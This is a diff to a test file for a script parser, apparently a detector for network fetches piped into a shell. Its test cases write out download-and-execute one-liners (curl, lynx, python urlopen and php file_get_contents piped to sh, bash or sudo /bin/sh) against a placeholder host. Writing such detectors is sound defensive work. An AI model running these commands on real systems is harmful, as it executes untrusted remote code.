@@ -59,8 +59,51 @@ describe('readScript sees what is fetched', () => {
     ['$u = "http://h.example/a"\niwr $u -OutFile x', 'http://h.example/a', 'iwr', 'x', false],
     ['set U=http://h.example/a\r\ncurl %U% -o x', 'http://h.example/a', 'curl', 'x', false],
     ['curl -L \\\n  http://h.example/a \\\n  -o x', 'http://h.example/a', 'curl', 'x', false],
+    ['cd1 -fsSL http://h.example/a.sh | sh', 'http://h.example/a.sh', 'cd1', undefined, true],
+    ['lynx -source http://h.example/a.sh | bash', 'http://h.example/a.sh', 'lynx', undefined, true],
+    [
+      `python3 -c "exec(urllib.request.urlopen('http://h.example/a').read())"`,
+      'http://h.example/a',
+      'urlopen',
+      undefined,
+      true,
+    ],
+    [
+      `python -c "import urllib2; print urllib2.urlopen('http://h.example/a').read()" | bash`,
+      'http://h.example/a',
+      'urlopen',
+      undefined,
+      true,
+    ],
+    [
+      `php -r "system(file_get_contents('http://h.example/a'));"`,
+      'http://h.example/a',
+      'file_get_contents',
+      undefined,
+      true,
+    ],
+    [
+      `python -c "urllib.urlretrieve('http://h.example/a','/tmp/a')"`,
+      'http://h.example/a',
+      'urlretrieve',
+      undefined,
+      false,
+    ],
   ])('%s', (text, url, tool, target, piped) => {
     expect(fetched(text)).toEqual([{ url, tool, target, piped }]);
+  });
+
+  it('hands all that stands in brackets to the shell behind them', () => {
+    const call = `python -c "import urllib2 as u; print(u.urlopen('http://h.example/c').read())"`;
+    const piped = (text: string): boolean[] => readScript(text).fetches.map((fetch) => fetch.piped);
+    expect(piped(`(curl -s http://h.example/a || wget -qO- http://h.example/b || ${call}) | bash`)).toEqual([
+      true,
+      true,
+      true,
+    ]);
+    expect(piped('{ curl -s http://h.example/a; } | sudo /bin/sh')).toEqual([true]);
+    expect(piped('curl -sO http://h.example/a; (cat x) | bash')).toEqual([false]);
+    expect(piped('(curl -s http://h.example/a) | jq .')).toEqual([false]);
   });
 
   it('says where the command stands', () => {
@@ -68,6 +111,13 @@ describe('readScript sees what is fetched', () => {
     const [fetch] = readScript(text).fetches;
     expect(text.slice(fetch?.offset, (fetch?.offset ?? 0) + (fetch?.length ?? 0))).toBe('curl -O http://h.example/a');
   });
+
+  it.each([
+    'tool --api https://h.example/v1 | jq .',
+    'echo "see http://h.example/a" | sh',
+    'git clone https://h.example/a | bash',
+    'print("get(" + "http://h.example")',
+  ])('nothing in %j', (text) => expect(fetched(text)).toEqual([]));
 
   it.each(['curl --version', 'echo wget is missing', 'apt install curl', 'the curl of a vector field/path'])(
     'nothing in %j',
@@ -110,14 +160,17 @@ describe('readScript is total', () => {
   it('does not blow up on variables that hold each other', () => {
     const doubling = Array.from({ length: 150 }, (_, i) => `v${i + 1}=$v${i}$v${i}$v${i}$v${i}`).join('\n');
     const start = performance.now();
-    readScript(`v0=aaaaaaaaaaaaaaaaaaaa\n${doubling}\n${`curl ${'$v99'.repeat(900)}\n`.repeat(2000)}`);
+    readScript(`v0=aaaaaaaaaaaaaaaaaaaa\n${doubling}\n${`curl ${'$v99'.repeat(900)}\n`.repeat(300)}`);
     expect(performance.now() - start).toBeLessThan(1500);
   });
 
-  it.each([' ', 'a=', '$a', '* ', '"', '> ', 'a.', '"$(', '(', '\\\n'])('does not slow down on %j', (piece) => {
-    const text = `curl ${piece.repeat(200_000)}`;
-    const start = performance.now();
-    readScript(text);
-    expect(performance.now() - start).toBeLessThan(1500);
-  });
+  it.each([' ', 'a=', '$a', '* ', '"', '> ', 'a.', '"$(', '(', '\\\n', ') | sh ', 'get(', 'http://a ', '| sh http://'])(
+    'does not slow down on %j',
+    (piece) => {
+      const text = `curl ${piece.repeat(200_000)}`;
+      const start = performance.now();
+      readScript(text);
+      expect(performance.now() - start).toBeLessThan(1500);
+    },
+  );
 });
